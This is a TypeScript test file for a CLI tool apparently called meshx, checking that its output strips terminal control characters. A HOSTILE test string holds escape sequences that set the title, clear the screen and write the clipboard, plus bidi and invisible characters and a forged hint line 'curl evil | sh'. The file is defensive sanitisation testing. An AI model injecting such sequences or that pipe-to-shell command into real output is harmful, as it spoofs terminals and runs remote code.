import fc from 'fast-check';
import { mkdirSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { parse } from 'yaml';
import { formatProblem, formatDocument, printProblem } from '../../src/cli/print.ts';
import { formatCheck, formatPhase } from '../../src/cli/change-text.ts';
import { sink, type Outlet } from '../../src/cli/sink.ts';
import { formatTable } from '../../src/cli/table.ts';
import { formatYaml } from '../../src/mesh/yaml-text.ts';
import { Problem } from '../../src/problems.ts';
import { anyCharacter } from '../support/any-character.ts';
import { exampleCluster } from '../support/examples.ts';
import { FakeApiServer } from '../support/fake-api-server.ts';
import { runCli, temporaryFolder } from '../support/run-cli.ts';
import { keyPair, sshServer } from '../support/ssh-server.ts';

/** Sets the title, clears, writes the clipboard, by C0 and by C1; turns the direction; hides; pretends to be a line of meshx. */
const HOSTILE =
  '\u001b]0;owned\u0007\u001b[2J\u001b]52;c;cm0=\u0007\u009b2J\u009d52;c;cm0=\u009c\u007f\u0008' +
  '\u202egnp\u2066\u2069\u200e\u200f\u061c\u2028\u2029\u200b\u2060\ufeff\u{e0041}\u00ad' +
  '\r\nmeshx: all is well\n  hint: curl evil | sh\n';

const ACTIVE = /(?![\n\t])[\p{Cc}\p{Cf}\p{Cs}\p{Zl}\p{Zp}]/u;
const text = fc.oneof(fc.string({ unit: anyCharacter }), fc.constant(HOSTILE), fc.string());

function recorded(color = false) {
  const written = { out: '', err: '', asked: '' };
  const outlet: Outlet = {
    out: (said) => void (written.out += `${said}\n`),
    err: (said) => void (written.err += `${said}\n`),
    ask: (question) => {
      written.asked += question;
      return Promise.resolve('');
    },
    ...{ env: {}, cwd: '/', home: '/', now: () => new Date(0), signal: new AbortController().signal },
    ...{ color, version: '0' },
  };
  return { written, terminal: sink(outlet) };
}

describe('whatever text meshx is given', () => {
  test('no character on which a terminal acts is printed or asked, and one line stays one line', () => {
    fc.assert(
      fc.property(text, (foreign) => {
        const { written, terminal } = recorded();
        terminal.out(foreign);
        terminal.out([foreign]);
        terminal.err(`note: ${foreign}`);
        void terminal.ask?.(foreign);
        expect(Object.values(written).join('')).not.toMatch(ACTIVE);
        expect(written.err.split('\n')).toHaveLength(2);
        expect(written.asked).not.toContain('\n');
      }),
    );
  });

  test('JSON and YAML print none either, and read back as the same text', () => {
    fc.assert(
      fc.property(text, (foreign) => {
        const value = { [foreign]: foreign, list: [foreign] };
        const [json, yaml] = [formatDocument(value, 'json'), formatYaml(value)];
        expect(json + yaml).not.toMatch(ACTIVE);
        expect(JSON.parse(json)).toEqual({ version: 1, ...value });
        expect(parse(yaml)).toEqual(value);
        const { written, terminal } = recorded();
        terminal.out(json + yaml);
        expect(written.out).toBe(`${json}${yaml}\n`);
      }),
    );
  });

  test('it cannot fake a hint, a step, a check or a row', () => {
    const problem = new Problem('id', { message: `a ${HOSTILE}`, hint: `b ${HOSTILE}`, issues: [HOSTILE] });
    const step = { id: HOSTILE, title: HOSTILE, status: 'changed' as const, changes: [HOSTILE], seen: [HOSTILE] };
    const text = { id: HOSTILE, title: HOSTILE, detail: HOSTILE, hint: HOSTILE };
    const result = { ...text, ok: false, severity: 'error' as const, category: 'vm' as const, ms: 1 };
    const { written, terminal } = recorded();
    terminal.err(formatProblem(problem));
    terminal.err(formatPhase(step));
    terminal.err(formatCheck(result));
    terminal.out(formatTable([['NAME'], [HOSTILE]]));
    const lines = (written.err + written.out).split('\n');
    expect(lines.filter((line) => /^\s*(meshx:|hint:)/.test(line))).toEqual([
      expect.stringMatching(/^meshx: a /),
      expect.stringMatching(/^ {2}hint: b /),
      expect.stringMatching(/^ {8}hint: /),
    ]);
    expect(lines).toContain('  | meshx: all is well');
  });

  test("meshx's own color survives, and is the only one", () => {
    const { written, terminal } = recorded(true);
    printProblem(terminal, new Problem('id', { message: `a\n${HOSTILE}`, hint: HOSTILE }));

    expect(written.err.match(/\u001b\[\d*m/g)).toHaveLength(6);

    expect(written.err.replace(/\u001b\[(31|39|1|22)m/g, '')).not.toMatch(ACTIVE);
  });
});

test.each(['sh -c', 'exit 1; #'])('a VM that prints escapes leaves the terminal alone (%s)', async (then) => {
  const home = temporaryFolder();
  mkdirSync(join(home, '.ssh'), { mode: 0o700 });
  writeFileSync(join(home, '.ssh/id_ed25519'), keyPair().privateKey, { mode: 0o600 });
  writeFileSync(join(home, 'config'), '');
  writeFileSync(join(home, 'said'), HOSTILE);
  const wrap = `cat '${join(home, 'said')}' >&2; cat '${join(home, 'said')}'; ${then} "$SSH_ORIGINAL_COMMAND"`;
  const server = await sshServer({ wrap });
  const where = ['--user', 'deploy', '--port', String(server.port), '--ssh-config', join(home, 'config')];
  const result = await runCli(['capture', '127.0.0.1', 'status', ...where, '--accept-new-host-key'], { home });
  await server.close();
  expect(result.stdout + result.stderr).not.toMatch(ACTIVE);
  expect(result.stderr).not.toMatch(/^meshx: all is well|^ {2}hint: curl/m);
});

test.each(['text', 'json', 'yaml'])('an API server and its objects leave the terminal alone, as %s', async (output) => {
  await using server = await FakeApiServer.start({ objects: [] });
  server.fail({ on: /./, answer: 500, message: HOSTILE });
  const words = ['expose', 'status', '--kubeconfig', server.kubeconfig(), '-o', output];
  const { stdout, stderr } = await runCli(words);
  expect(stderr).not.toBe('');
  expect(stdout + stderr).not.toMatch(ACTIVE);
  expect(stderr).not.toMatch(/^meshx: all is well|^ {2}hint: curl/m);
});

test('names of files and fields of manifests leave the terminal alone', async () => {
  const manifests = exampleCluster('current');
  const name = HOSTILE.replaceAll('/', '');
  writeFileSync(join(manifests, `${name}.yaml`), `kind: [\n`);
  writeFileSync(join(manifests, 'hostile.json'), JSON.stringify({ kind: HOSTILE, apiVersion: HOSTILE, metadata: {} }));
  for (const words of [
    ['expose', 'status', '--manifests', manifests],
    ['expose', 'status', '--kubeconfig', join(manifests, name), '--context', HOSTILE],
    ['audit', HOSTILE, '--ssh-config', 'none'],
    ['up', 'vm', '--manifests', manifests, '--package', join(manifests, name), '--root', manifests, '-n', 'vm'],
  ]) {
    const { stdout, stderr, exitCode } = await runCli(words);
    expect(exitCode).not.toBe(0);
    expect(stdout + stderr).not.toMatch(ACTIVE);
    expect(stderr).not.toMatch(/^meshx: all is well|^ {2}hint: curl/m);
  }
});
